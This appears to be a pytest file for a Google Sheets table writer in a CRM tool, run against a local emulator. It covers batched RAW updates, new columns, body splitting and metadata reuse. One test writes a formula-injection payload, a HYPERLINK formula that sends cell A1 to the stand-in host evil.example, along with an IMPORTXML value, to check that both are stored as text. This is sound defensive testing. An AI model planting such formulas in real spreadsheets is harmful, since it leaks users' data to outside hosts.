"""Writing a Google sheet: one RAW batch update of only the given cells, then one check
read; formulas stay text, missing columns grow the grid, big bodies are split, and a
daemon's next tick reuses the metadata.

The harness is described in ``tests.support.gsheets``.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from sheetcrm.model import CellUpdate
from sheetcrm.table.gsheets import GoogleSheetsTable
from tests.support.emulators.sheets import SheetsEmulator, Typed
from tests.support.gsheets import HEADER, KEY, SHEET, TAGS, column

# Tests here must not reach past 127.0.0.1; tables built from a config retry on the
# virtual clock (both fixtures are in tests/conftest.py).
pytestmark = pytest.mark.usefixtures("loopback_only", "fast_retries")


def test_write_is_one_raw_batch_update_of_only_the_given_cells_then_one_check(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    book.clear_log()
    report = table.write("이메일", [
        CellUpdate("soohyun@example.com", "상태 태그", "결제 대기, 결제 유도"),
        CellUpdate("chaerin@example.com", "상태 태그", ""),
        CellUpdate("chaerin@example.com", "최근 발송", "2026-11-23 10:00 payment_reminder"),
    ])
    assert book.kinds() == ["values.batchGet", "values.batchUpdate", "values.batchGet"]
    assert report.requests == 3 and not report.repaired_keys
    assert (report.cells_written, report.rows_written) == (3, 2)
    assert report.columns_added == ["최근 발송"]
    body = book.writes()[0].json()
    assert body["valueInputOption"] == "RAW"
    shown = book.display(KEY, SHEET)
    assert shown[0] == HEADER + ["최근 발송"]
    assert column(book, "상태 태그") == {"soohyun@example.com": "결제 대기, 결제 유도",
                                       "jihoon@example.com": "결제 대기",
                                       "chaerin@example.com": ""}
    assert column(book, "메모")["soohyun@example.com"] == "VIP"
    assert column(book, "연락처")["jihoon@example.com"] == "01098765432"


def test_formula_looking_values_are_stored_as_text(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    evil = '=HYPERLINK("https://evil.example/?q="&A1,"확인")'
    table = make_table()
    table.read()
    table.write("이메일", [CellUpdate("soohyun@example.com", "상태 태그", evil),
                          CellUpdate("jihoon@example.com", "상태 태그", "=IMPORTXML(A1)"),
                          CellUpdate("chaerin@example.com", "상태 태그", "007")])
    assert book.cell(KEY, SHEET, "E2") == evil  # a plain string: text, not a formula
    assert book.cell(KEY, SHEET, "E3") == "=IMPORTXML(A1)"
    assert book.cell(KEY, SHEET, "E4") == "007"
    assert column(book, "상태 태그")["soohyun@example.com"] == evil
    # The emulator does tell the two apart: typed in (USER_ENTERED) it is a formula.
    book.put(KEY, SHEET, [['=HYPERLINK("https://a.example","확인")']], start="F2")
    assert isinstance(book.cell(KEY, SHEET, "F2"), Typed)


def test_nothing_to_write_makes_no_request(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    before = book.count()
    report = table.write("이메일", [])
    assert report.requests == 0 and book.count() == before and not book.writes()


def test_missing_columns_grow_the_grid_with_one_counted_request(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=10, cols=3)
    emulator.put(KEY, SHEET, [["고객명", "이메일", "상태 태그"], ["김수현", "a@example.com"]])
    table = make_table()
    table.read()
    emulator.clear_log()
    report = table.write("이메일", [CellUpdate("a@example.com", "자동화 흐름", "payment 1/3"),
                                   CellUpdate("a@example.com", "오류", "")])
    assert emulator.kinds() == ["values.batchGet", "spreadsheets.batchUpdate",
                                "values.batchUpdate", "values.batchGet"]
    assert report.requests == 4
    assert emulator.sheet(KEY, SHEET).col_count == 5
    shown = emulator.display(KEY, SHEET)
    assert shown[0] == ["고객명", "이메일", "상태 태그", "자동화 흐름", "오류"]
    assert shown[1][3] == "payment 1/3"


def test_new_columns_go_past_unnamed_data_columns(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    book.put(KEY, SHEET, [["손으로 적은 메모"]], start="G3")  # data under no header
    table = make_table()
    table.read()
    table.write("이메일", [CellUpdate("jihoon@example.com", "오류", "x")])
    shown = book.display(KEY, SHEET)
    assert shown[0][7] == "오류" and shown[2][6] == "손으로 적은 메모" and shown[2][7] == "x"


def test_large_bodies_are_split_and_gaps_are_skipped_not_cleared(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=500, cols=4)
    rows = [["이메일", "메모", "상태 태그"]]
    rows += [[f"u{i}@example.com", f"memo {i}", f"old {i}"] for i in range(400)]
    emulator.put(KEY, SHEET, rows, input="RAW")
    table = make_table(max_request_bytes=4000)
    table.read()
    updates = [CellUpdate(f"u{i}@example.com", "상태 태그", f"새 태그 {i}")
               for i in range(400) if i % 3 != 1]  # every third row unchanged
    emulator.clear_log()
    report = table.write("이메일", updates)
    writes = emulator.writes()
    assert len(writes) > 1 and report.requests == 2 + len(writes)
    assert all(len(json.dumps(w.json(), ensure_ascii=False, separators=(",", ":")).encode())
               <= 4000 for w in writes)
    tags = column(emulator, "상태 태그")
    for i in range(400):
        assert tags[f"u{i}@example.com"] == (f"old {i}" if i % 3 == 1 else f"새 태그 {i}")
    assert column(emulator, "메모")["u7@example.com"] == "memo 7"


def test_a_body_refused_as_too_large_is_resent_in_halves(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=300, cols=3)
    emulator.put(KEY, SHEET, [["이메일", "상태 태그"]]
                 + [[f"u{i}@example.com"] for i in range(200)])
    emulator.max_request_bytes = 5000  # the ~5.5 kB body is refused
    table = make_table(max_request_bytes=20_000)
    table.read()
    emulator.clear_log()
    report = table.write("이메일", [CellUpdate(f"u{i}@example.com", "상태 태그",
                                              f"태그 {i:03d} 가나다라") for i in range(200)])
    statuses = [e.status for e in emulator.requests if e.kind == "values.batchUpdate"]
    assert statuses == [400, 400, 200, 200]  # limits of 20 kB, 10 kB, then 5 kB
    assert report.cells_written == 200
    assert column(emulator, "상태 태그")["u199@example.com"] == "태그 199 가나다라"


# --------------------------------------------------------------------------- request counts


def test_daemon_tick_reuses_metadata_and_an_idle_run_writes_nothing(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    table.write("이메일", TAGS)
    assert book.count() == 5 and table.requests == 5
    book.clear_log()
    table.read()  # the next tick: metadata is cached
    report = table.write("이메일", [CellUpdate("jihoon@example.com", "상태 태그", "J2")])
    assert book.kinds() == ["values.get", "values.batchGet", "values.batchUpdate",
                            "values.batchGet"]
    assert report.requests == 3 and table.requests == 9
    book.clear_log()
    table.read()
    table.write("이메일", [])
    assert book.kinds() == ["values.get"]
